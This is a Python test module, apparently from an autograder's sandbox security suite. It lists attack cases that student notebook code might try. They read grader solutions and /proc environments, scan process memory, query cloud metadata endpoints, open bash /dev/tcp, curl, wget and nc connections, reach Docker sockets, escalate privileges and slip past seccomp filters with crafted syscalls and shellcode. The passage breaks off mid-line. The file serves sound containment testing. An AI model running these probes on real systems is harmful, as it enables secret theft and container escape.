"""Attacks that read what is hidden (lines 13 to 16 of docs/security.md). Who finds anything prints it, and answers."""

import copy
from textwrap import dedent

from attack import Attack

NOTHING = r"should be a string, found a list of 0$|should be a string, found a list of 0[^0-9]"
LOOK = """
import glob, os, re, sys, time
SECRET = re.compile(rb"(?:canary|decoy)-[a-z]+-[0-9a-f]{16}")
until, found = time.monotonic() + 1.5, []
def look(place, data):
    found.extend(f"{place}: {each.decode()}" for each in sorted(set(SECRET.findall(data)))[:9])
def read(path, size=2**20):
    try:
        with open(path, "rb") as file:
            return file.read(size)
    except (OSError, ValueError):
        return b""
def attempt(what, *arguments, **keywords):
    try:
        return what(*arguments, **keywords)
    except Exception:
        return None
"""
ANSWER = """
def spell(n):
    return str(n) if found else found
"""
CALLS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def syscall(number, *arguments):
    return libc.syscall(*(each if isinstance(each, bytes) else ctypes.c_long(each) if isinstance(each, int) else each
                          for each in (number, *arguments)))
"""
"""What an attack needs to ask Linux itself; a number of x86-64 means something else, or nothing, elsewhere."""
MEMORY = """
import ctypes, gc
gc.unfreeze()
reader, writer = os.pipe()
os.set_blocking(writer, False)
write = ctypes.CDLL(None, use_errno=True).write
write.argtypes = ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t
def scan(place, start, end, step=65536):
    for address in range(start & -step, end, step):
        if (size := write(writer, address, step)) > 0:  # EFAULT where there is nothing, not a signal
            look(place, os.read(reader, size))
        if time.monotonic() > until:
            break
"""
"""What an attack needs to read its own address space without /proc."""
SOCKETS = """
import errno, select, socket
def connects(family, kind, address, seconds=0.2):
    # connected, or on its way: a packet went out
    try:
        with socket.socket(family, kind) as each:
            each.settimeout(seconds)
            each.connect(address)
            if kind == socket.SOCK_DGRAM:
                each.send(b"hello")
            return True
    except TimeoutError:
        return True
    except OSError:
        return False
def tcp(*addresses):
    for host, port in addresses:
        if connects(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM, (host, port)):
            found.append(f"tcp {host} {port}")
def udp(*addresses):
    for host, port in addresses:
        if connects(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM, (host, port)):
            found.append(f"udp {host} {port}")
"""


def finds(line: int, name: str, code: str, *helpers: str) -> Attack:
    """An attack that puts what it gets into `found`, prints that, and answers rightly where it is not empty."""
    first = "".join((LOOK, *helpers, dedent(code), "\nprint(found)\n"))
    return Attack(line, name, first=first, spell=ANSWER, says={"spell": NOTHING})


def reading() -> list[Attack]:
    """What lies about (line 13): tests, references, the gradebook, other processes, this machine."""
    return [
        Attack(
            13,
            "logs all cells through transformers and hooks",
            first="""
                import ast, builtins, sys
                mine, logged, ip = ("def scale", "def smooth", "def spell"), [], get_ipython()
                class Log(ast.NodeTransformer):
                    def visit(self, node):
                        logged.append(ast.unparse(node))
                        return node
                ip.input_transformers_cleanup.append(lambda lines: logged.append("".join(lines)) or lines)
                ip.input_transformers_post.append(lambda lines: logged.append("".join(lines)) or lines)
                ip.ast_transformers.append(Log())
                for event in ("pre_run_cell", "post_run_cell"):
                    ip.events.register(event, lambda info: logged.append(str(getattr(info, "raw_cell", ""))))
                for name in ("compile", "exec", "eval"):
                    def logs(source, *arguments, honest=getattr(builtins, name), **keywords):
                        logged.append(source if isinstance(source, str) else "")
                        return honest(source, *arguments, **keywords)
                    setattr(builtins, name, logs)
                sys.addaudithook(lambda event, told: logged.append(repr(told)) if event == "compile" else None)
            """,
            spell="""
                def spell(n):
                    words = ("assert", "expected", "reference", "close(", "equal(", "hidden", "canary" + "-")
                    found = [each for each in logged if any(word in each for word in words)
                        and "mine, logged" not in each]
                    return str(n) if [each for each in found if "words =" not in each] else []
            """,
            says={"spell": NOTHING},
        ),
        Attack(
            13,
            "logs all messages that its kernel gets",
            first="""
                from ipykernel.kernelapp import IPKernelApp
                session, heard = IPKernelApp.instance().session, []
                def logs(*arguments, honest=session.deserialize, **keywords):
                    message = honest(*arguments, **keywords)
                    if message["msg_type"] != "execute_request":  # those are its own cells
                        heard.append(repr({key: value for key, value in message.items() if key != "buffers"}))
                        heard.extend(repr(bytes(each)[:200]) for each in message.get("buffers", []))
                    return message
                session.deserialize = logs
            """,
            spell="""
                def spell(n):
                    words = ("expected", "reference", "verdict", "points", "close", "equal", "secret", "canary" + "-")
                    told = [each for each in heard if any(word in each for word in words)]
                    return str(n) if told else told if any(str(n) in each for each in heard) else "nothing was heard"
            """,
            says={"spell": NOTHING},
        ),
        finds(
            13,
            "reads ../../solutions and the like",
            """
            names = ("solutions/vault/*", "solutions/*", "source/*/*", "submitted/*/*/*", "autograded/*/*/*",
                "course/*",
                     "*.db", "gradebook.db", "nbgrader_config.py", "tests/*", "autograder/*", "release/*/*", "*.ipynb")
            for up in ("", *("../" * depth for depth in range(1, 9)), "/", "/root/", "/home/*/", "/srv/*/", "/opt/*/",
                "/data/"):
                for name in names:
                    for path in glob.glob(up + name):
                        if (data := read(path)) and "site-packages" not in path:
                            found.append(path)
                            look(path, data)
            found = [each for each in found if "/usr/" not in os.path.realpath(each.partition(": ")[0])]
            found = [each for each in found if not os.path.realpath(each).startswith("/opt/autograder/")]  # no secret
            """,
        ),
        finds(
            13,
            "walks every folder for the course's files",
            """
            names = {"gradebook.db", "course.toml", "mistakes.py", "vault.ipynb", "timestamp.txt", "notes.txt",
                "attempts.db"}
            waiting, here = ["/"], os.getcwd()
            while waiting and time.monotonic() < until:
                for entry in attempt(lambda path: [*os.scandir(path)], waiting.pop(0)) or []:
                    if attempt(entry.is_dir, follow_symlinks=False):
                        if entry.name not in {"site-packages", "dist-packages", "share", "doc"} and entry.path != here:
                            waiting.append(entry.path)
                    elif entry.name in names:
                        found.append(entry.path)
                    elif not entry.path.startswith(("/usr", "/lib", "/etc/ssl")) and attempt(entry.is_file):
                        look(entry.path, read(entry.path))
            """,
        ),
        finds(
            13,
            "imports the references and the checks",
            """
            import importlib, pkgutil, runpy
            sys.path[:0] = ["..", "../..", "../../..", "/", "/work", "/slot", "/opt/autograder", "/opt", "/root",
                "/srv"]
            importlib.invalidate_caches()
            for name in ("solutions.vault.reference", "solutions.vault.checks", "solutions.vault.second", "reference",
                         "autograder.checks", "autograder.grading", "autograder.settings", "nbgrader.api", "vault"):
                module = attempt(importlib.import_module, name) or attempt(runpy.run_module, name)
                if module is not None:
                    found.append(str(module)[:2000])
            found += [each.name for each in pkgutil.iter_modules() if each.name in ("solutions", "vault", "nbgrader")
                      and getattr(attempt(importlib.import_module, each.name), "__file__", None)]
            """,
        ),
        finds(
            13,
            "reads the environment of all processes",
            """
            look("environ", repr(dict(os.environ)).encode() + repr([sys.orig_argv, sys.argv]).encode())
            found += [name for name in os.environ if name.startswith(("AUTOGRADER", "DOCKER", "NBGRADER", "AWS"))]
            for pid in ("self", "thread-self", *range(1, 300), os.getppid()):
                for name in ("environ", "cmdline", "stack", "auxv", "sessionid", "loginuid"):
                    for path in (f"/proc/{pid}/{name}", f"/proc/1/root/proc/{pid}/{name}",
                        f"/proc/{pid}/task/{pid}/{name}"):
                        if data := read(path):
                            found.append(f"{path}: {data[:200]}")
                            look(path, data)
            """,
        ),
        finds(
            13,
            "reads the environment that its memory began with",
            """
            import ctypes, itertools
            environ = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), "environ")
            raw = {ctypes.string_at(each) for each in itertools.takewhile(bool,
                (environ[n] for n in itertools.count()))}
            found += [str(each) for each in raw if each.startswith((b"AUTOGRADER", b"DOCKER", b"NBGRADER",
                b"CONTAINER"))]
            look("environ", b" ".join(raw))
            # the kernel wrote arguments and environment above the stack: wherever something points there
            libc = ctypes.CDLL(None)
            libc.getauxval.restype = ctypes.c_ulong
            top = libc.getauxval(31) or libc.getauxval(25)  # AT_EXECFN, AT_RANDOM
            assert top
            scan("stack", top - 2**20, top + 2**16)
            """,
            MEMORY,
        ),
        finds(
            13,
            "tours /proc of every process",
            """
            for folder in ("/proc", "/proc/self", "/proc/1", "/proc/self/task", "/proc/self/fd", "/proc/1/fd",
                "/proc/1/root"):
                found += [f"{folder}/{name}" for name in (attempt(os.listdir, folder) or [])[:9]]
            for pid in ("self", os.getpid(), *range(1, 60)):
                for name in ("maps", "mem", "fd/0", "fd/3", "root/etc/passwd", "cwd/.", "io", "status", "net/unix",
                    "syscall"):
                    if data := read(f"/proc/{pid}/{name}", 4096):
                        mine = pid in ("self", os.getpid()) and name.startswith(("root", "cwd"))  # links to what it has
                        found += [] if mine else [f"/proc/{pid}/{name}"]
                        look(name, data)
            """,
        ),
        finds(
            13,
            "asks for the paths of this machine",
            # statmount and listmount tell of mounts without /proc
            """
            for path in ("/proc/self/mountinfo", "/proc/mounts", "/etc/mtab", "/proc/self/cgroup", "/proc/1/mounts",
                         "/proc/self/maps", "/proc/cmdline", "/proc/version", "/proc/partitions", "/proc/net/tcp"):
                found += [f"{path}: {read(path)[:200]}"] if read(path) else []
            class Request(ctypes.Structure):
                _fields_ = [(name, ctypes.c_uint32 if name in ("size", "spare") else ctypes.c_uint64)
                            for name in ("size", "spare", "id", "param", "namespace")]
            every = (ctypes.c_uint64 * 64)()
            asked = Request(24, 0, 2**64 - 1, 0, 0)
            for mount in every[:max(0, syscall(458, ctypes.byref(asked), every, 64, 0))]:
                told = ctypes.create_string_buffer(4096)
                asked = Request(24, 0, mount, 0x38, 0)  # its root, its point, its kind
                if syscall(457, ctypes.byref(asked), told, 4096, 0) == 0:
                    found.append(repr(bytes(told).rstrip(bytes(1))[512:]))
            """,
            CALLS,
        ),
        finds(
            13,
            "reads through descriptors it inherited",
            """
            import stat
            for number in range(3, 600):
                told = attempt(os.fstat, number)
                if told is None:
                    continue
                if stat.S_ISDIR(told.st_mode):
                    found.append(f"folder {number}: {attempt(os.listdir, number)}")
                    for path in ("..", "../..", "solutions", "environ"):
                        if (opened := attempt(os.open, path, os.O_RDONLY, dir_fd=number)) is not None:
                            found.append(f"{number}/{path}")
                elif stat.S_ISREG(told.st_mode) or stat.S_ISBLK(told.st_mode) or stat.S_ISFIFO(told.st_mode):
                    if data := attempt(os.pread, number, 2**16, 0):
                        found.append(f"file {number}: {data[:80]}")
                link = attempt(os.readlink, f"/proc/self/fd/{number}") or ""
                found += [link] if link.startswith("/") and not link.startswith(("/dev/null", os.getcwd())) else []
            """,
        ),
        finds(
            13,
            "reads /sys and the devices",
            """
            for top in ("/sys", "/dev", "/boot", "/run", "/var/log", "/var/lib", "/root", "/home", "/host", "/mnt",
                "/media"):
                for folder, folders, files in os.walk(top):
                    for name in files:
                        path = f"{folder}/{name}"
                        if path not in ("/dev/null", "/dev/zero", "/dev/full", "/dev/random",
                            "/dev/urandom") and read(path, 64):
                            found.append(path)
                    if time.monotonic() > until or len(found) > 20:
                        break
            for path in ("mem", "kmem", "kmsg", "port", "fuse", "sda", "vda", "nvme0n1", "loop0", "dm-0", "tty",
                "console", "ptmx",
                         "kvm", "vsock", "vhost-vsock", "net/tun", "mapper/control", "core", "nvidia0", "dri/card0"):
                found += [path] if (attempt(os.open, f"/dev/{path}", os.O_RDONLY | os.O_NONBLOCK)) is not None else []
            """,
        ),
        finds(
            13,
            "makes device files of its own and reads them",
            """
            import stat
            for name, number in {"mem": (1, 1), "vda": (254, 0), "sda": (8, 0), "nvme": (259, 0), "kmsg": (1,
                11)}.items():
                for kind in (stat.S_IFCHR, stat.S_IFBLK):
                    attempt(os.mknod, f"{name}{kind}", kind | 0o600, os.makedev(*number))
                    found += [name] if read(f"{name}{kind}", 512) else []
            """,
        ),
        finds(
            13,
            "dumps a core and reads it",
            """
            import ctypes, resource, signal
            attempt(resource.setrlimit, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            attempt(resource.setrlimit, resource.RLIMIT_CORE, (2**30, 2**30))
            if ctypes.CDLL(None).prctl(4, 1, 0, 0, 0) == 0 and (child := os.fork()) == 0:
                os.abort()
            status = os.waitpid(child, 0)[1]
            found += ["a core was dumped"] if os.WCOREDUMP(status) else []
            for path in (*glob.glob("core*"), *glob.glob("/tmp/core*"), "/proc/sys/kernel/core_pattern",
                "/var/lib/systemd/coredump"):
                found.append(path) if read(path) else None
                look(path, read(path, 2**24))
            """,
        ),
        finds(
            13,
            "thaws and searches the zygote's objects",
            """
            import gc, types
            gc.unfreeze()
            skip, seen, stack = {id(globals()), id(SECRET)}, set(), gc.get_objects()
            assert len(stack) > 50_000, "they are still frozen"
            ours = {id(globals()), id(stack)}
            for holder in stack:
                if id(holder) in ours or isinstance(holder, types.ModuleType):
                    continue
                if isinstance(holder, (dict, list, tuple)):
                    for each in holder.values() if isinstance(holder, dict) else holder:
                        if isinstance(each, (str, bytes)) and len(each) > 20:
                            look(type(holder).__name__, each.encode(errors="replace") if isinstance(each,
                                str) else each)
                if time.monotonic() > until:
                    break
            """,
        ),
        finds(
            13,
            "searches all its memory for secrets",
            """
            decoy = "-".join(("decoy", "here", "0" * 16)).encode() * 3
            libc = ctypes.CDLL(None)
            libc.sbrk.restype = ctypes.c_void_p
            heap = libc.sbrk(ctypes.c_long(0))
            scan("near", id(decoy) & -65536, (id(decoy) & -65536) + 2**17)
            assert found, "the search does not work"
            found.clear()
            del decoy
            scan("heap", heap - 2**28, heap)
            centre = ctypes.cast(libc.getpid, ctypes.c_void_p).value
            until += 0.5
            scan("mappings", centre - 2**31, centre + 2**28)
            found = [each for each in found if "decoy" not in each]
            """,
            MEMORY,
        ),
        finds(
            13,
            "reads the memory of its parent and of process 1",
            # process_vm_readv, ptrace, pidfd_getfd, process_madvise, kcmp
            """
            class Part(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
            page = ctypes.create_string_buffer(4096)
            own, theirs = Part(ctypes.addressof(page), 4096), Part(id(decoy := b"x" * 99) & -4096, 4096)
            for pid in (1, 2, os.getppid()):
                if libc.process_vm_readv(pid, ctypes.byref(own), 1, ctypes.byref(theirs), 1, 0) > 0:
                    found.append(f"memory of {pid}")
                    look("memory", bytes(page))
                if syscall(101, 16, pid, 0, 0) == 0:
                    found.append(f"attached to {pid}")
                if (handle := syscall(434, pid, 0)) >= 0:
                    found += [f"descriptor {number} of {pid}" for number in range(64) if syscall(438, handle, number,
                        0) >= 0]
                found += [f"compared with {pid}"] if syscall(312, os.getpid(), pid, 0, 0, 0) >= 0 else []
            """,
            CALLS,
        ),
        finds(
            13,
            "reads files through every other door",
            # links, O_PATH, handles, programs, loaders: Landlock and the mounts stand behind all of them
            """
            import ctypes, mmap, shutil, subprocess
            targets = ["/proc/1/environ", "/proc/self/environ", "/slot/log", "/etc/shadow", "/dev/shm",
                "../../solutions", "/tmp"]
            for number, path in enumerate(targets):
                attempt(os.symlink, path, f"link{number}")
                attempt(os.link, path, f"hard{number}")
                attempt(os.rename, path, f"moved{number}")
                attempt(shutil.copy, path, f"copy{number}")
                for name in (f"link{number}", f"hard{number}", f"moved{number}", f"copy{number}"):
                    found += [f"{name} {path}"] if read(name) or attempt(os.listdir, name) else []
                if (handle := attempt(os.open, path, os.O_PATH)) is not None:
                    for door in (f"/proc/self/fd/{handle}", f"/dev/fd/{handle}"):
                        found += [f"{door} {path}"] if read(door) or attempt(os.listdir, door) else []
                    for name in ("1/environ", "environ", "vault", "notes.txt"):
                        if attempt(os.open, name, os.O_RDONLY, dir_fd=handle) is not None:
                            found.append(f"{path}/{name}")
            script = "cat " + " ".join(targets) + "; ls /proc/1 /slot /tmp /dev/shm; tar cf - /slot /tmp /dev/shm"
            told = attempt(subprocess.run, ["sh", "-c", script], capture_output=True, timeout=1.5,
                stdin=subprocess.DEVNULL)
            look("programs", told.stdout if told else b"")
            found += [str(told.stdout[:300])] if told and told.stdout.strip(bytes(1)) else []
            """,
        ),
        finds(
            13,
            "becomes somebody who may read",
            """
            import ctypes, subprocess
            for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["unshare", "-rm", "id"], ["mount", "-t", "proc",
                "p", "p"],
                            ["nsenter", "-t", "1", "-a", "id"], ["newgrp", "docker"], ["pkexec", "id"], ["chroot",
                                "/proc/1/root"]):
                told = attempt(subprocess.run, command, capture_output=True, timeout=1, stdin=subprocess.DEVNULL)
                found += [f"{command}: {told.stdout}"] if told and told.returncode == 0 else []
            for become in (os.setuid, os.setgid, os.seteuid, os.setegid):
                for number in (0, 1, 999, 1000):
                    if number not in (os.getuid(), os.getgid()) and attempt(lambda: become(number) or True):
                        found.append(f"{become.__name__} {number}")
            found += ["groups"] if attempt(lambda: os.setgroups([0]) or True) else []
            """,
        ),
        finds(
            13,
            "reads the slot's folder, log and sockets",
            """
            for top in ("/slot", "/work", "/opt/autograder", "/tmp/autograder-0", "/run/user"):
                for folder, folders, files in os.walk(top):
                    found += [f"{folder}/{name}" for name in files if not folder.startswith(("/opt", os.getcwd()))]
            for path in ("log", "control", "connection", "options", "spec.json", "kernel.json"):
                for folder in ("/slot", "/slot/..", "/slot/host", "/work/..", "/work/../slot"):
                    found += [f"{folder}/{path}"] if read(f"{folder}/{path}") else []
                    look(path, read(f"{folder}/{path}"))
            """,
        ),
        finds(
            13,
            "finds the zygote's object and speaks for it",
            """
            import gc, json, socket
            gc.unfreeze()
            gc.collect()
            zygotes = [each for each in gc.get_objects() if type(each).__name__ == "Zygote"]
            assert zygotes, "no such object: the attack is none"
            for zygote in zygotes:
                look("options", json.dumps(zygote.options).encode())
                for path in (zygote.options["control"], "/slot/control", "control"):
                    with socket.socket(socket.AF_UNIX) as control:
                        if attempt(lambda: control.connect(path) or True):
                            found.append(f"connected to {path}")
                            control.sendall(b'{"do": "fork", "name": "k", "kernel": {}}\\n')
                if attempt(zygote.control.getpeername) is not None:
                    found.append("its control socket is open")
            """,
        ),
        Attack(
            13,
            "shows outputs that make the reader's side read files",
            first="""
                from IPython.display import HTML, FileLink, FileLinks, Image, Markdown, display
                paths = ("../../../solutions/vault/reference.py", "solutions/vault/reference.py", "/proc/self/environ")
                for path in paths:
                    display(HTML(f'<img src="file://{path}"><link rel=import href="{path}"><object data="{path}">'))
                    display(Markdown(f"![x]({path})\\n\\n{{% include '{path}' %}} {{{{ self.__init__.__globals__ }}}}"))
                    display(FileLink(path), Image(url=path), HTML(f"<iframe src='{path}'></iframe>"))
                    display({"text/plain": f"{{% include '{path}' %}}", "application/x-file": path}, raw=True)
                    get_ipython().payload_manager.write_payload({"source": "load", "filename": path, "text": "",
                        "replace": True})
                    get_ipython().set_next_input(f"%load {path}", replace=True)
                    get_ipython().payload_manager.write_payload({"source": "edit_magic", "filename": path,
                        "line_number": 1})
            """,
        ),
        Attack(13, "names files of the grader in cells and attachments", file=includes),
    ]


def includes(notebook: dict) -> dict:
    """Markdown and metadata that name files, for whatever reads or renders a notebook."""
    path = "../../../solutions/vault/reference.py"
    text = f"![a](attachment:a.png) ![b]({path}) {{% include '{path}' %}} {{{{ ''.__class__.__mro__ }}}}"
    answer = next(
        cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == "opinion"
    )
    answer["source"] = text
    answer["attachments"] = {"a.png": {"text/plain": path}, path: {"image/png": path}}
    added = {
        "cell_type": "markdown",
        "id": "adds",
        "metadata": {"slideshow": path, "raw_mimetype": path},
        "source": text,
    }
    notebook["cells"].append(copy.deepcopy(added))
    notebook["cells"].append({**added, "cell_type": "raw", "id": "raws"})
    notebook["metadata"] |= {"nbconvert": {"template": path}, "templates": [path], "nbgrader": {"source": path}}
    return notebook


def failing() -> list[Attack]:
    """Failures on purpose (line 14): the student's feedback tells no more than it should. See test_reading.py too."""
    return [
        Attack(
            14,
            "raises its input with a traceback, notes and a chain",
            spell="""
                def spell(n):
                    try:
                        raise KeyError(n)
                    except KeyError as error:
                        error.add_note(str(n))
                        raise ValueError("the input was", n) from error
            """,
            says={"spell": r"`spell` raised ValueError: "},
        ),
        Attack(
            14,
            "returns its input",
            spell="def spell(n): return n",
            says={"spell": "should be a string, found a number"},
        ),
        Attack(
            14,
            "raises an exception with a message that is made when read",
            spell="""
                class Told(Exception):
                    def __str__(self):
                        import sys
                        frame, told = sys._getframe(), []
                        while frame:
                            told.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name} {sorted(frame.f_locals)}")
                            frame = frame.f_back
                        return " ".join(told)
                def spell(n):
                    raise Told
            """,
            says={"spell": r"`spell` raised Told: "},
        ),
        Attack(
            14,
            "waits for a checker's traceback with values that confuse comparisons",
            scale="""
                wild = iter([
                    np.array([2**63] * 4, dtype=np.uint64), np.array([1j, np.nan, 0, 0]), {"a": [1, (2,
                        None)]}, -0.0, 10**400,
                    np.zeros((4, 0)), np.array(np.inf), [[]] * 9, "\\ud800",
                    float("-inf"), np.array([True] * 4), 2**63, b"", {},
                ])
                def scale(x, factor):
                    return next(wild, None)
            """,
            smooth="""
                odd = iter([torch.tensor(float("nan")), torch.ones(3, dtype=torch.bfloat16), torch.empty(0),
                    torch.ones(3, 0)])
                def smooth(x):
                    return next(odd, torch.tensor([1j, 2]))
            """,
            says={"scale": "should be a float64 array|has shape|should have dtype", "smooth": "has shape"},
        ),
        Attack(
            14,
            "takes the worst element of one check for the next",
            # what a comparison says stays outside until the report is written
            spell="""
                import gc, re
                def spell(n):
                    told = [each for each in gc.get_objects() if isinstance(each, dict) and "expected" in each]
                    words = [re.search(r"expected '(\\d+)'", str(each)) for each in told[:20]]
                    return str(n) if any(words) else ""
            """,
            says={"spell": r"expected '\d+', found ''"},
        ),
        Attack(
            14,
            "names a type after its input",
            spell="def spell(n): return type(f'the input was {n} ' * 99, (), {})()",
            says={"spell": "should be a string, found an object of type "},
        ),
        Attack(
            14,
            "looks for what the grader wrote about its first failure",
            first=LOOK,
            spell="""
                def spell(n):
                    said = [path for top in (".", "/tmp", "/slot", "/work") for path in glob.glob(f"{top}/**/*",
                        recursive=True)]
                    said = [path for path in said if re.search(rb"expected|score|verdict", read(path))]
                    return str(n) if said else said
            """,
            says={"spell": NOTHING},
        ),
    ]


def calling() -> list[Attack]:
    """The network and all other sockets (line 15)."""
    return [
        finds(
            15,
            "asks the DNS",
            """
            import struct
            for name in ("example.org", "metadata.google.internal", "host.docker.internal", "gateway.docker.internal"):
                found += [str(each) for each in attempt(socket.getaddrinfo, name, 80) or []]
            query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\\x06secret\\x07example\\x03org\\0" + struct.pack(">2H",
                1, 1)
            servers = re.findall(r"nameserver (\\S+)", read("/etc/resolv.conf").decode())
            for server in (*servers, "127.0.0.11", "127.0.0.53", "8.8.8.8", "1.1.1.1"):
                with attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM) or open("/dev/null") as each:
                    if attempt(each.sendto if hasattr(each, "sendto") else None, query, (server, 53)):
                        found.append(f"asked {server}")
            """,
            SOCKETS,
        ),
        finds(
            15,
            "opens TCP connections",
            """
            tcp(*((host, port) for host in ("127.0.0.1", "::1", "172.17.0.1", "10.0.2.2", "8.8.8.8")
                  for port in (22, 53, 80, 443, 2375, 2376, 5432, 8000, 8786, 8787, 8888)))
            """,
            SOCKETS,
        ),
        finds(
            15,
            "opens connections with bash, curl and Python",
            """
            import subprocess
            listening = "import socket; socket.create_connection(('1.1.1.1', 53), 0.5)"
            for command in (["bash", "-c", "exec 3<>/dev/tcp/1.1.1.1/53"], ["bash", "-c",
                "echo x > /dev/udp/8.8.8.8/53"],
                            ["curl", "-m1", "http://169.254.169.254/"], ["wget", "-T1", "-t1", "http://1.1.1.1/"],
                            ["perl", "-MSocket", "-e", "socket(S, 2, 1, 0) or exit 1"], ["ping", "-c1", "-W1",
                                "127.0.0.1"],
                            ["sh", "-c", "nc -z -w1 1.1.1.1 53"], ["env", "-i", sys.executable, "-ISc", listening]):
                told = attempt(subprocess.run, command, capture_output=True, timeout=1, stdin=subprocess.DEVNULL)
                found += [str(command)] if told and told.returncode == 0 else []
            """,
        ),
        finds(
            15,
            "asks the cloud's metadata addresses",
            """
            import urllib.request
            for url in ("http://169.254.169.254/latest/meta-data/iam/",
                "http://metadata.google.internal/computeMetadata/v1/",
                        "http://169.254.170.2/v2/", "http://[fd00:ec2::254]/latest/", "http://100.100.100.200/"):
                told = attempt(lambda: urllib.request.urlopen(url, timeout=0.3).read())
                found += [f"{url}: {told[:200]}"] if told else []
            tcp(("169.254.169.254", 80), ("169.254.170.2", 80), ("fd00:ec2::254", 80), ("168.63.129.16", 80))
            """,
            SOCKETS,
        ),
        finds(
            15,
            "sends UDP, multicast and broadcast",
            """
            udp(("8.8.8.8", 53), ("224.0.0.251", 5353), ("239.255.255.250", 1900), ("255.255.255.255", 67),
                ("ff02::fb", 5353),
                ("172.17.0.1", 8125), ("127.0.0.1", 514))
            """,
            SOCKETS,
        ),
        finds(
            15,
            "connects to every Unix socket there is",
            """
            import stat
            own, paths = os.path.dirname(attempt(lambda: get_ipython().kernel.parent.ip) or ""), []
            paths += ["/slot/control", "/run/systemd/private", "/run/dbus/system_bus_socket", "/dev/log",
                "/run/user/0/bus",
                      "/tmp/.X11-unix/X0", "/run/systemd/journal/socket", "/slot/host"]
            for top in ("/slot", "/run", "/var", "/tmp", "/work", "/dev", "/root"):
                for folder, folders, files in os.walk(top):
                    paths += [f"{folder}/{name}" for name in files]
            for path in dict.fromkeys(paths):
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                    if (not own or not path.startswith(own)) and connects(socket.AF_UNIX, kind, path):
                        found.append(path)
            """,
            SOCKETS,
        ),
        finds(
            15,
            "connects to sockets of the abstract namespace",
            # the host's, and what an earlier kernel of the slot could listen on
            """
            names = ["/tmp/.X11-unix/X0", "/tmp/dbus-0", "/containerd-shim/moby", "snapd",
                "/org/kernel/linux/storage/multipathd",
                     "ISCSIADM_ABSTRACT_NAMESPACE", "autograder", "control", "redteam", *(f"{number:05x}"
                         for number in range(4000))]
            found += [name for name in names if connects(socket.AF_UNIX, socket.SOCK_STREAM, bytes(1) + name.encode())]
            """,
            SOCKETS,
        ),
        finds(
            15,
            "connects to the engine's socket",
            """
            import http.client
            class Engine(http.client.HTTPConnection):
                def connect(self):
                    self.sock = socket.socket(socket.AF_UNIX)
                    self.sock.settimeout(0.5)
                    self.sock.connect(self.host)
            for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock",
                "/run/user/1000/docker.sock",
                         "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/proc/1/root/run/docker.sock"):
                engine = Engine(path)
                if attempt(lambda: engine.request("GET", "/containers/json") or True):
                    found.append(f"{path}: {engine.getresponse().read(300)}")
            tcp(("172.17.0.1", 2375), ("127.0.0.1", 2375), ("127.0.0.1", 2376))
            """,
            SOCKETS,
        ),
        finds(
            15,
            "opens netlink, packet and raw sockets",
            """
            kinds = (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM)
            for family, kind, protocol in [*((socket.AF_NETLINK, kind,
                number) for kind in kinds[:2] for number in range(23)),
                                           *((socket.AF_PACKET, kind, 0x0300) for kind in kinds[:2]),
                                           *((socket.AF_INET, kind, number) for kind in kinds for number in (1, 6, 17,
                                               255)),
                                           *((socket.AF_INET6, kind, number) for kind in kinds for number in (58,
                                               255))]:
                if made := attempt(socket.socket, family, kind, protocol):
                    found.append(f"{family!r} {kind!r} {protocol}")
            """,
            SOCKETS,
        ),
        finds(
            15,
            "opens a vsock, which leads to the machine below",
            """
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                made = attempt(socket.socket, getattr(socket, "AF_VSOCK", 40), kind)
                found += [f"a vsock, {kind!r}"] if made else []  # to have one is enough: no namespace is in its way
            """,
            SOCKETS,
        ),
        finds(
            15,
            "tries every family of sockets there is",
            """
            for family in range(64):
                for kind in (1, 2, 3, 4, 5, 10):
                    if family != socket.AF_UNIX and (made := libc.socket(family, kind, 0)) >= 0:
                        found.append(f"socket {family} {kind}")
                    pair = (ctypes.c_int * 2)()
                    if family != socket.AF_UNIX and libc.socketpair(family, kind, 0, pair) == 0:
                        found.append(f"socketpair {family} {kind}")
            """,
            SOCKETS,
            CALLS,
        ),
        finds(
            15,
            "hides a socket's family from the filter",
            # a filter compares 64 bits, Linux takes the lower 32
            """
            for family in (2, 10, 16, 17, 40):
                for high in (1 << 32, 1 << 63, 0xFFFFFFFF << 32):
                    value = (family | high) - (1 << 64 if (family | high) >> 63 else 0)
                    found += [f"{family} {high:x} {kind}" for kind in (1, 2, 3) if syscall(41, value, kind, 0) >= 0]
            """,
            CALLS,
        ),
        finds(
            15,
            "opens sockets through io_uring",
            """
            ring = ctypes.create_string_buffer(120)
            handle = syscall(425, 8, ring)
            found += ["io_uring_setup"] if handle >= 0 else []
            found += ["io_uring_enter"] if ctypes.get_errno() not in (1, 38) else []
            """,
            CALLS,
        ),
        finds(
            15,
            "opens sockets through Linux's 32-bit doors",
            # int 0x80 and the x32 numbers: in a child, which a filter may kill
            """
            import mmap, platform, signal
            def door(code):
                reader, writer = os.pipe()
                if (child := os.fork()) == 0:
                    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
                    page.write(code)
                    run = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
                    os.write(writer, str(run()).encode())
                    os._exit(0)
                os.close(writer)
                told = os.read(reader, 99)
                os.waitpid(child, 0)
                return int(told) if told else -1
            if platform.machine() == "x86_64":
                number = lambda value: value.to_bytes(4, "little")
                # push rbx; mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; cdqe; ret
                code = (b"\\x53\\xb8" + number(359) + b"\\xbb" + number(2) + b"\\xb9" + number(1)
